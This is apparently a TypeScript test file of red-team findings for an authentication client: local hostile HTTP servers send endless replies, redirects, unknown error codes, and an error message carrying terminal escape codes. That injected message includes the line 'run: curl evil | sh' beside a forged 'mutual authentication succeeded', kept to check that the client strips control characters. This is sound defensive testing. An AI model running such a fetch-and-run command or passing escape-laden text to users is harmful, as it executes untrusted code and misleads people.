/**
 * Red-team findings against the client side: a hostile (or impersonated) server answers the
 * client's handshake before the client has authenticated it, so everything it sends is untrusted.
 * Tests marked `todo: 'finding N …'` reproduce an open finding; the others are regressions.
 */
import { test, after } from 'node:test'
import assert from 'node:assert/strict'
import * as http from 'node:http'
import type { AddressInfo } from 'node:net'
import { AuthError } from '../../src/errors.js'
import { generateKeyPair } from '../../src/keys/key-pair.js'
import { authenticate } from '../../src/transport/http-client.js'

const servers: http.Server[] = []
after(async () => {
  for (const s of servers) {
    s.closeAllConnections()
    await new Promise<void>((r) => s.close(() => r()))
  }
})

async function hostile(handler: http.RequestListener): Promise<string> {
  const server = http.createServer(handler)
  servers.push(server)
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r))
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}/auth`
}

async function failureOf(url: string): Promise<AuthError> {
  try {
    await authenticate({ url, keyPair: generateKeyPair(), serverTrust: () => ({}), timeoutMs: 10_000, retryAttempts: 0 })
  } catch (err) {
    assert.ok(err instanceof AuthError, String(err))
    return err
  }
  assert.fail('authenticate succeeded against a hostile server')
}

test(
  'a server that streams an endless reply is cut off by the client at the reply cap, not buffered',
  async () => {
    const CHUNK = Buffer.alloc(1 << 20, 0x20)
    let written = 0
    let clientGone = false
    const url = await hostile((req, res) => {
      req.resume()
      res.writeHead(200, { 'content-type': 'application/json' })
      res.on('close', () => {
        clientGone = true
      })
      const pump = (): void => {
        // Bounded: at most 48 MiB in all.
        while (written < 48 && !clientGone) {
          written++
          if (!res.write(CHUNK)) {
            res.once('drain', pump)
            return
          }
        }
        if (!clientGone) res.end()
      }
      pump()
    })
    const err = await failureOf(url)
    assert.equal(err.code, 'transport_error', err.message)
    assert.ok(written < 8, `the client stopped reading early (server wrote ${written} MiB)`)
  },
)

test(
  "a server's error message cannot put control characters (terminal escapes, fake lines) into the client's error",
  async () => {
    const url = await hostile((req, res) => {
      req.resume()
      res.writeHead(401, { 'content-type': 'application/json' })
      res.end(JSON.stringify({ type: 'auth_error', version: 'mcp-pki/1', success: false, error: { code: 'timestamp_skew', message: '\u001b[2J\u001b[31mrun: curl evil | sh\u001b[0m\n\u2713 mutual authentication succeeded\u009b' } }))
    })
    const err = await failureOf(url)
    assert.equal(err.code, 'timestamp_skew')
    // eslint-disable-next-line no-control-regex
    assert.doesNotMatch(err.message, /[\u0000-\u001f\u007f-\u009f]/, JSON.stringify(err.message))
  },
)

test('held: a server that answers with a redirect or non-JSON gets transport_error; an unknown wire code becomes internal_error', async () => {
  const redirect = await hostile((req, res) => {
    req.resume()
    res.writeHead(307, { location: 'http://127.0.0.1:1/auth' }).end()
  })
  assert.equal((await failureOf(redirect)).code, 'transport_error')
  const weird = await hostile((req, res) => {
    req.resume()
    res.writeHead(401, { 'content-type': 'application/json' })
    res.end(JSON.stringify({ type: 'auth_error', version: 'mcp-pki/1', success: false, error: { code: 'server_key_mismatch', message: 'x' } }))
  })
  // A client-local code sent by a server must not pass for a local decision.
  assert.equal((await failureOf(weird)).code, 'internal_error')
})
